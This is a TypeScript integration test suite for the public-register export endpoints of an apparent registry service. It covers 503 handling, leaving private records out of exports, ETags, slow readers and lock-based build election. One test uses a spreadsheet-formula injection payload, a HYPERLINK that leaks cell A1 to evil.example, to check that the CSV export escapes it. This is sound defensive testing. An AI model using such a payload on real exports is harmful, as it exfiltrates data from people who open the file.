import { readdirSync } from 'node:fs';
import { get as httpGet, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { fetchHttp, seedDemo } from '../demo/seed.js';
import { UnitOfWork } from '../apps/registry/src/platform/journal/unit-of-work.js';
import { bearer, createOrganisation, createSource, privacyRecordBody, type TestOrganisation, walkPages } from './support/fixtures.js';
import { generateApiKey } from '../apps/registry/src/api-keys/api-key-secret.js';
import { createDatabase, describeOnServer, SHARED_LOG_KEY, startTestApp, type TestApp, uniqueSlug } from './support/test-app.js';
import { until } from './support/wait.js';

const PUBLIC = 'https://plaza.example/register';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

interface Line {
  kind: string;
  journalIndex: number | null;
  record: Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
}

describe('full exports of the public register', () => {
  it('answers 503 with Retry-After and a stable code while no export has been built', async () => {
    const t = await startTestApp({ PLAZA_EXPORT_INTERVAL_MS: '0', PLAZA_RETRY_AFTER_SECONDS: '7' });
    try {
      for (const path of ['/exports', '/exports/register.jsonl', '/exports/sources.csv']) {
        const res = await t.http.get(path).expect(503);
        expect(res.headers['retry-after']).toBe('7');
        expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
        expect(res.body).toMatchObject({ status: 503, code: 'exports.not_built_yet' });
      }
      expect((await t.http.head('/exports/register.jsonl').expect(503)).headers['retry-after']).toBe('7');
    } finally {
      await t.close();
    }
  });

  describe('built in the background', () => {
    let t: TestApp;
    let base: string;
    let city: TestOrganisation;
    let vendor: TestOrganisation;
    let formulaSource: string;
    const secret = uniqueSlug('secret');

    const journalSize = () => t.app.get(UnitOfWork).size();
    /** The export index once it reflects the journal as it is now. */
    async function exportOfNow(): Promise<{ journalSize: number; builtAt: string; records: number }> {
      const size = await journalSize();
      for (let tries = 0; tries < 600; tries++) {
        const res = await t.http.get('/exports');
        if (res.status === 200 && res.body.journalSize >= size) return res.body;
        await sleep(50);
      }
      throw new Error(`no export of journal size ${size} within 30 s`);
    }
    /** An export file's text, read over real HTTP. */
    async function download(path: string, headers: Record<string, string> = {}): Promise<{ status: number; headers: Headers; text: string }> {
      const res = await fetch(`${base}${path}`, { headers });
      return { status: res.status, headers: res.headers, text: await res.text() };
    }
    const jsonl = async (): Promise<Line[]> => (await download('/exports/register.jsonl')).text.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Line);

    beforeAll(async () => {
      t = await startTestApp({ PLAZA_PUBLIC_URL: PUBLIC, PLAZA_EXPORT_INTERVAL_MS: '100', PLAZA_RATE_LIMIT_PER_MINUTE: '100000', PLAZA_VOTING_PERIOD_HOURS: '0' }, { ownDatabase: true });
      await t.app.listen(0, '127.0.0.1');
      base = `http://127.0.0.1:${(t.app.getHttpServer().address() as AddressInfo).port}`;
      await seedDemo(fetchHttp(base), { operatorKey: t.operatorKey, suffix: uniqueSlug('exp').slice(-12) });
      city = await createOrganisation(t, uniqueSlug('expcity'), 'city');
      vendor = await createOrganisation(t, uniqueSlug('expvendor'), 'vendor');
      formulaSource = (await createSource(t, city.adminKey, `urn:exp:${secret}:formula`, { name: { en: FORMULA, fr: '@SUM(1+1)*cmd' } })).id;
      // What must never be exported: a member's name, a draft agreement, a draft privacy record.
      await t.http.post(`/api/v1/organisations/${city.slug}/members`).set(bearer(city.adminKey)).send({ name: `Member ${secret}`, email: `m@${city.slug}.example`, roles: ['member'] }).expect(201);
      await t.http.post('/api/v1/agreements').set(bearer(city.adminKey)).send({
        vendors: [vendor.slug], sources: [formulaSource], eventTypes: [{ standard: 'air-quality-observation', major: 1 }],
        purposes: [{ en: `Draft ${secret}`, fr: `Brouillon ${secret}` }], retention: 'P1Y', onwardSharing: false, dataResidency: ['CA'],
        validFrom: new Date().toISOString(), validUntil: new Date(Date.now() + 365 * 86_400_000).toISOString(),
        summary: { en: `Draft ${secret}`, fr: `Brouillon ${secret}` },
      }).expect(201);
      await t.http.post('/api/v1/privacy-records').set(bearer(city.adminKey)).send(privacyRecordBody([formulaSource], { title: { en: `Draft ${secret}`, fr: `Brouillon ${secret}` } })).expect(201);
    }, 300_000);

    afterAll(async () => {
      await t?.close();
    });

    it('holds every public record, with its journal index, and nothing private', async () => {
      const built = await exportOfNow();
      const lines = await jsonl();
      expect(lines).toHaveLength(built.records);
      const byKind = (kind: string) => new Map<unknown, Line>(lines.filter((l) => l.kind === kind).map((l) => [l.record.id ?? l.record.number, l]));
      type Served = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
      const indexes = (parts: Served[]) => parts.map((part) => part.journalIndex as number);
      // Each kind: its public list, the whole record as the API serves it, and the journal index of its latest part.
      const kinds: [string, string, (item: Served) => string, (whole: Served) => number][] = [
        ['organisation', '/api/v1/organisations', (o) => o.slug, (o) => o.journalIndex],
        ['source', '/api/v1/sources', (s) => s.id, (s) => s.journalIndex],
        ['privacy-record', '/api/v1/privacy-records', (r) => r.id, (r) => r.journalIndex],
        ['agreement', '/api/v1/agreements', (a) => a.id, (a) => Math.max(...(a.versions as Served[]).flatMap((v) => [v.journalIndex, ...indexes(v.signatures)]))],
        ['standard', '/api/v1/standards', (s) => s.id, (s) => Math.max(s.journalIndex, ...indexes(s.versions))],
        ['proposal', '/api/v1/proposals', (p) => String(p.number), (p) => Math.max(p.journalIndex, ...indexes(p.reviews), ...indexes(p.votes))],
      ];
      for (const [kind, path, key, latest] of kinds) {
        const { items } = await walkPages(t, path, { limit: 100 });
        const exported = byKind(kind);
        expect(items.length).toBeGreaterThan(0);
        expect([...exported.keys()].sort()).toEqual(items.map((i) => i.id ?? i.number).sort());
        for (const item of items) {
          const whole = (await t.http.get(`${path}/${key(item)}`).expect(200)).body as Served;
          const line = exported.get(item.id ?? item.number)!;
          expect(line.record).toEqual(whole);
          expect(line.journalIndex).toBe(latest(whole));
          expect(line.journalIndex).toBeLessThan(built.journalSize);
        }
      }
      const everything = (await download('/exports/register.jsonl')).text + (await download('/exports/sources.csv')).text;
      expect(everything).not.toContain(`Draft ${secret}`);
      expect(everything).not.toContain(`Brouillon ${secret}`);
      expect(everything).not.toContain(`Member ${secret}`);
      expect(everything).not.toMatch(/"salt"|internalDetail|Internal notes of the assessment/);
    });

    it('names the files and their ETag by the journal size, and follows the journal as it grows', async () => {
      const first = await exportOfNow();
      const res = await download('/exports/sources.csv');
      expect(res.status).toBe(200);
      const etag = res.headers.get('etag')!;
      expect(etag).toBe(`"sources-${first.journalSize}"`);
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="plaza-sources-${first.journalSize}.csv"`);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
      expect(Number(res.headers.get('content-length'))).toBe(Buffer.byteLength(res.text));
      expect((await download('/exports/sources.csv', { 'if-none-match': etag })).status).toBe(304);
      const head = await t.http.head('/exports/register.jsonl').expect(200);
      expect(head.headers.etag).toBe(`"register-${first.journalSize}"`);
      expect(Number(head.headers['content-length'])).toBeGreaterThan(0);

      await t.http.patch(`/api/v1/sources/${formulaSource}`).set(bearer(city.adminKey)).send({ description: { en: 'Edited', fr: 'Modifiée' } }).expect(200);
      const second = await exportOfNow();
      expect(second.journalSize).toBeGreaterThan(first.journalSize);
      const edited = (await jsonl()).find((l) => l.record.id === formulaSource)!;
      expect(edited.record.description.en).toBe('Edited');
      expect(edited.journalIndex).toBe(second.journalSize - 1);
      const again = await download('/exports/sources.csv', { 'if-none-match': etag });
      expect(again.status).toBe(200);
      expect(again.headers.get('etag')).toBe(`"sources-${second.journalSize}"`);
      // The older export's files are gone from the folder (a build under way would only add files under temporary names).
      expect(readdirSync(t.config.exportDir).filter((name) => !name.startsWith('.building-')).sort()).toEqual([`export-${second.journalSize}.json`, `register-${second.journalSize}.jsonl`, `sources-${second.journalSize}.csv`]);
    });

    it('escapes a formula typed into a source in the CSV, and keeps it as typed in the JSON Lines', async () => {
      await exportOfNow();
      const csv = (await download('/exports/sources.csv')).text;
      const row = csv.split('\n').find((line) => line.startsWith(formulaSource))!;
      expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`);
      expect(row).toContain(`,'@SUM(1+1)*cmd,`);
      expect(row).not.toMatch(/,=|,"=|,@/);
      expect((await jsonl()).find((l) => l.record.id === formulaSource)!.record.name.en).toBe(FORMULA);
    });

    it('lets a slow reader hold the file open while others write and read', async () => {
      // Enough rows that the file does not fit in the socket's buffers: the reader really is behind.
      const long = 'A sentence about what this sensor measures and why. '.repeat(75);
      for (let i = 0; i < 150; i++) await createSource(t, city.adminKey, `urn:exp:${secret}:bulk:${i}`, { description: { en: long, fr: long } });
      const built = await exportOfNow();
      const response = await new Promise<IncomingMessage>((resolve, reject) => httpGet(`${base}/exports/register.jsonl`, resolve).on('error', reject));
      expect(response.statusCode).toBe(200);
      const total = Number(response.headers['content-length']);
      expect(total).toBeGreaterThan(1_000_000);
      const chunks: Buffer[] = [];
      const firstChunk = await new Promise<Buffer>((resolve) => response.once('data', resolve));
      response.pause();
      chunks.push(firstChunk);
      // Meanwhile the embedded database's one connection is free: a write and a read go through at once, and a new export is built.
      await t.http.patch(`/api/v1/sources/${formulaSource}`).set(bearer(city.adminKey)).send({ description: { en: 'Written during a slow read', fr: 'Écrite pendant une lecture lente' } }).expect(200);
      await t.http.get(`/api/v1/sources/${formulaSource}`).expect(200);
      await t.http.get('/sources').expect(200);
      expect((await exportOfNow()).journalSize).toBeGreaterThan(built.journalSize);
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.resume();
      await new Promise((resolve) => response.on('end', resolve));
      const body = Buffer.concat(chunks);
      expect(body.length).toBe(total);
      expect(body.toString('utf8').split('\n').filter(Boolean)).toHaveLength(built.records);
    }, 120_000);
  });

  /** Instances of one registry on one server database, each with an export folder of its own: only the elected one builds. */
  describeOnServer('several instances on one database', () => {
    let database: Awaited<ReturnType<typeof createDatabase>>;
    const apps: TestApp[] = [];
    const operatorKey = generateApiKey().key;
    const start = async () => {
      const app = await startTestApp({ DATABASE_URL: database.url, PLAZA_LOG_SIGNING_KEY: SHARED_LOG_KEY, PLAZA_OPERATOR_KEY: operatorKey, PLAZA_EXPORT_INTERVAL_MS: '100' });
      apps.push(app);
      return { ...app, operatorKey };
    };
    const built = async (app: TestApp) => (await app.http.get('/exports')).status === 200;

    beforeAll(async () => {
      database = await createDatabase(process.env.DATABASE_URL!);
    });
    afterAll(async () => {
      for (const app of apps) await app.close().catch(() => undefined);
      await database?.drop();
    });

    it('builds in the one instance holding the lock, and in another once that one stops', async () => {
      const first = await start();
      await until('the first instance built an export', () => built(first), 15_000);
      const second = await start();
      await createOrganisation(second, uniqueSlug('exp-election'), 'city');
      const size = await second.app.get(UnitOfWork).size();
      await until('the first instance exported the new size', async () => (await first.http.get('/exports')).body.journalSize === size, 15_000);
      expect(await built(second)).toBe(false);
      await first.close();
      await until('the second instance took over', () => built(second), 15_000);
      expect((await second.http.get('/exports').expect(200)).body.journalSize).toBe(size);
    }, 120_000);
  });
});
